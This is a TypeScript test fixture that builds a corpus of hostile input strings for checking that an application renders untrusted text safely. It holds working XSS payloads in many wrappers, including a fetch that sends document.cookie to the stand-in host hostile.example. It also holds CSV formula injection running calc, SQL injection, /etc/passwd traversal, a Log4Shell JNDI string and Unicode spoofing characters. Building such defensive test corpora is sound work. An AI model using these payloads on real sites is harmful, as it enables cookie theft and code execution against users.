/**
 * Texts that try to be more than text. Whatever of them is run sets `__hostile`, opens a dialog or asks another host; the
 * tests look for all three.
 */

const HOST = "https://hostile.example";

/** What a payload would do if it were let. */
const DEEDS = [
  "window.__hostile=1",
  "alert(document.domain)",
  `fetch('${HOST}/'+document.cookie)`,
  "top.location='javascript:window.__hostile=1'",
] as const;

/** Ways to have it done: elements, handlers, addresses, styles, and ways out of where a text is put. */
const WAYS: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}//`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<script/src="data:text/javascript,${deed}"></script>`,
  (deed) => `<script type="module">${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src=x onerror=${deed}`,
  (deed) => `<img/src/onerror=${deed}>`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `'><img src=x onerror='${deed}'>`,
  (deed) => `" onfocus="${deed}" autofocus="`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `x onanimationstart=${deed} style=animation:a`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><a xlink:href="javascript:${deed}"><text y="20">press</text></a></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><use href="data:image/svg+xml,<svg onload='${deed}'/>#x"/></svg>`,
  (deed) => `<svg><foreignObject><iframe onload="${deed}"/></foreignObject></svg>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe onload="${deed}">`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">press me</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `jAvAsCrIpT:${deed}//`,
  (deed) => `java\tscript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>go</button></form>`,
  (deed) => `<button formaction="javascript:${deed}">go</button>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<select autofocus onfocus="${deed}"></select>`,
  (deed) => `<textarea autofocus onfocus="${deed}"></textarea>`,
  (deed) => `</textarea><img src=x onerror="${deed}">`,
  (deed) => `</title><img src=x onerror="${deed}">`,
  (deed) => `</style><img src=x onerror="${deed}">`,
  (deed) => `--><img src=x onerror="${deed}"><!--`,
  (deed) => `]]><img src=x onerror="${deed}">`,
  (deed) => `<details open ontoggle="${deed}"><summary>see</summary></details>`,
  (deed) => `<video autoplay onloadstart="${deed}"><source src=x></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<math><mtext><img src=x onerror="${deed}"></mtext></math>`,
  (deed) => `<math href="javascript:${deed}">press</math>`,
  (deed) => `<style>@keyframes a{}</style><b style="animation:a" onanimationend="${deed}">`,
  (deed) => `<template><img src=x onerror="${deed}"></template>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror='${deed}'>">`,
  (deed) => `<xss id=x tabindex=1 onfocus="${deed}"></xss>`,
  (deed) => `<dialog open onclose="${deed}"><form method=dialog><button>x</button></form></dialog>`,
  (deed) => `<base href="javascript:${deed}//"><a href="#">x</a>`,
  (deed) => `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;img src=x onerror=${deed}&#62;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `%3Cscript%3E${encodeURIComponent(deed)}%3C/script%3E`,
  (deed) => `\${${deed}}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\`);${deed};//`,
  (deed) => `");${deed};//`,
];

/** What needs no deed: it loads, hides, breaks lines, counts as a formula or is simply very long. */
const ODD: readonly string[] = [
  `<img src="${HOST}/seen.png">`,
  `<link rel=stylesheet href="${HOST}/a.css">`,
  `<link rel=dns-prefetch href="//hostile.example">`,
  `<style>@import '${HOST}/a.css';*{display:none}</style>`,
  `<div style="background:url(${HOST}/a.png);position:fixed;inset:0;z-index:9999">over everything</div>`,
  `![seen](${HOST}/seen.png)`,
  `[press](javascript:window.__hostile=1)`,
  `=HYPERLINK("${HOST}","press")`,
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  '"quoted","and","cut"\r\n=1+1',
  "\u202egnp.exe\u202c from the right",
  "\u2066\u2067isolates without an end",
  "zero\u200bwidth\u200djoiners\ufeffhere",
  "Z\u0351\u036b\u0343\u036a\u0302\u0346a\u0322\u0334\u0321l\u0327\u0325\u035fg\u0356\u0332o\u0321",
  "مرحبا, this is both ways",
  "👩‍👩‍👧‍👦🏳️‍🌈 and half a pair \ud83d",
  "a\u0000b\u0007c\u001b[31mred\u001b[0m",
  "line\u2028separator\u2029paragraph",
  "constructor",
  "__proto__",
  "toString",
  "null",
  "undefined",
  "[object Object]",
  "'; drop table student_configs; --",
  "../../../../etc/passwd",
  `%s%n%x {0} \${jndi:ldap://hostile.example/a}`,
  '{"type":"call-end","endReason":"paused"}',
  '"}],"success":true,"paused":true',
  "W".repeat(3_000),
  `${"<b>".repeat(400)}deep`,
  " ",
  "\u00a0\u3000\u2003",
  "0",
  "-0",
  "ﬁ ß İ ı ſ",
];

/** 300 and a few, each another one. */
export const HOSTILE_TEXTS: readonly string[] = [...WAYS.flatMap((way) => DEEDS.map(way)), ...ODD, ...mixed()];

/** Two in one: what closes one place opens another. */
function mixed(): string[] {
  return WAYS.slice(0, 20).map((way, at) => `${ODD[at % 14]} ${way(DEEDS[0])} ${WAYS.at(-1 - at)?.(DEEDS[1])}`);
}
